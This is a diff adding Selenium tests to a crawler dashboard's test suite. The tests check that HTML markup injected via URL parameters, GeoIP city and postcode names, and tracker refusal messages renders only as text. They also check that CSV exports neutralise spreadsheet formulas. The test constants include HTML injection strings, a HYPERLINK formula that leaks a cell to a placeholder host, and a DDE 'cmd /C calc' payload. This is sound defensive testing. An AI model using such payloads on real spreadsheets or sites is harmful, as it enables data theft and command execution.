@@ -10,6 +10,8 @@ written to ``tests/artifacts/`` (git-ignored) and the test's tmp dir.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -268,3 +270,103 @@ def test_pages_render_and_show_the_numbers_of_stats(dashboard, browser, test_env
     assert requested_hosts(d) <= {host}, requested_hosts(d)
     errors = [e for e in d.get_log("browser") if e["level"] == "SEVERE"]
     assert not errors, errors
+
+
+# Markup a third party or an address could carry: rendered, it would add elements the page never made.
+MARKUP = '<h1 id="big">reflected</h1><form id="evil" action="http://127.0.0.1:1/"><input name="q"></form>'
+CITY = '<img id="pwn" src="/pwned-city">City'
+POSTCODE = '<form id="pwnform"><input name="p"></form>'
+REFUSAL_MESSAGE = '<b id="pwnb">unregistered</b><img id="pwn2" src="/pwned-refusal">'
+FORMULA_CITY = '=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"open")'
+FORMULA_POSTCODE = "-2+3+cmd|' /C calc'!A0"
+
+
+def injected(d) -> list[str]:
+    """Elements the markup above would have made, if any rendered."""
+    return d.execute_script(
+        "return Array.from(document.querySelectorAll('form, #big, #pwn, #pwn2, #pwnb, #pwnform'))"
+        ".map(e => e.outerHTML)")
+
+
+def test_error_answers_show_markup_as_text(dashboard, browser):
+    from urllib.parse import quote
+
+    d, m = browser, quote(MARKUP)
+    for path in (f"/api/overview?month={m}", f"/api/operators?hours={m}", f"/api/overview?format=csv&table={m}",
+                 f"/api/overview?limit={m}", f"/nowhere/{m}", f"/torrent/{m}"):
+        d.get(dashboard + path)
+        assert d.execute_script("return document.contentType") == "text/plain", path
+        assert injected(d) == [], path
+    d.get(dashboard + f"/api/overview?month={m}")
+    assert 'reflected</h1><form id="evil"' in d.find_element("tag name", "body").text  # shown, as text
+    # the page itself, asked for a bad month, says why as text
+    d.get(dashboard + f"/?month={m}")
+    end = time.time() + 15
+    while "update failed" not in d.find_element("id", "updated").text and time.time() < end:
+        time.sleep(0.1)
+    assert "not a YYYY-MM month" in d.find_element("id", "updated").text
+    assert injected(d) == []
+
+
+def test_third_party_names_are_text_in_the_page(dashboard, browser, client, keys, settings, tmp_path):
+    """A GeoIP city, postcode and a tracker's refusal holding markup show as text in tables and charts."""
+    from crawler.sources.health import REFUSAL, TrackerHealth
+
+    d = browser
+    rec = Recorder(client, keys, settings, geo.open_locator(
+        write_city_db(tmp_path / "markup.mmdb", {"21.0.1.0/24": ("Germany", CITY, POSTCODE),
+                                                 "21.0.2.0/24": ("Germany", FORMULA_CITY, FORMULA_POSTCODE)})))
+    assert rec.record_visit(HASHES[0], [f"21.0.1.{i}" for i in range(1, 31)], time.time()) == 30
+    assert rec.record_visit(HASHES[0], [f"21.0.2.{i}" for i in range(1, 21)], time.time()) == 20
+    health = TrackerHealth(client, keys, flush=0.0)
+    health.record("http://127.0.0.1:6969/announce", REFUSAL, message=REFUSAL_MESSAGE)
+    health.flush()
+
+    d.get(dashboard + "/country/Germany")
+    wait_rendered(d)
+    names = d.execute_script("return Array.from(document.querySelectorAll("
+                             "\"table[data-table='cities'] td.name, table[data-table='postcodes'] td.name\"))"
+                             ".map(td => td.textContent)")
+    assert {CITY, POSTCODE, FORMULA_CITY.replace(".", "%2E"), FORMULA_POSTCODE} <= set(names)
+    # the page's own CSV links: a spreadsheet reads the formula names as text (a leading ')
+    for table, name in (("cities", FORMULA_CITY.replace(".", "%2E")), ("postcodes", FORMULA_POSTCODE)):
+        text = d.execute_script("return fetch(document.querySelector(`a.csv[data-table='${arguments[0]}']`).href)"
+                                ".then(r => r.text())", table)
+        cells = {row["name"] for row in csv.DictReader(io.StringIO(text))}
+        assert "'" + name in cells and name not in cells, (table, cells)
+    # every bar's tooltip (ECharts' own, HTML) shows the names escaped
+    for chart_id in ("cities-chart", "postcodes-chart"):
+        bars = d.execute_script("return echarts.getInstanceByDom(document.getElementById(arguments[0]))"
+                                ".getOption().yAxis[0].data", chart_id)
+        assert CITY in bars or POSTCODE in bars
+        for i in range(len(bars)):
+            d.execute_script("echarts.getInstanceByDom(document.getElementById(arguments[0]))"
+                             ".dispatchAction({type: 'showTip', seriesIndex: 0, dataIndex: arguments[1]})", chart_id, i)
+            time.sleep(0.05)
+            assert injected(d) == [], (chart_id, bars[i])
+        tip = d.execute_script("return Array.from(document.querySelectorAll('#' + arguments[0] + ' div'))"
+                               ".map(e => e.textContent).join(' ')", chart_id)
+        assert CITY in tip or POSTCODE in tip, tip
+    d.get(f"{dashboard}/torrent/{HASHES[0]}")
+    wait_rendered(d)
+    assert f"{CITY}, Germany" in d.execute_script(
+        "return Array.from(document.querySelectorAll(\"table[data-table='cities'] td.name\")).map(td => td.textContent)")
+    assert injected(d) == []
+    # the map's tooltip (our formatter) still names the country
+    d.get(dashboard + "/")
+    wait_rendered(d)
+    d.execute_script("echarts.getInstanceByDom(document.getElementById('map'))"
+                     ".dispatchAction({type: 'showTip', seriesIndex: 0, name: 'DE'})")
+    end = time.time() + 5
+    tip = ""
+    while "Germany: " not in tip and time.time() < end:
+        tip = d.execute_script("return Array.from(document.querySelectorAll('#map div')).map(e => e.textContent).join(' ')")
+        time.sleep(0.1)
+    assert "Germany: 65" in tip, tip
+    d.get(dashboard + "/operators")
+    wait_rendered(d)
+    refusals = [r["last_refusal"] for r in rows_shown(d, "trackers")]
+    assert any(REFUSAL_MESSAGE in r for r in refusals), refusals
+    assert injected(d) == []
+    errors = [e for e in d.get_log("browser") if e["level"] == "SEVERE" and "pwned" in e["message"]]
+    assert not errors, errors  # no injected image was ever requested
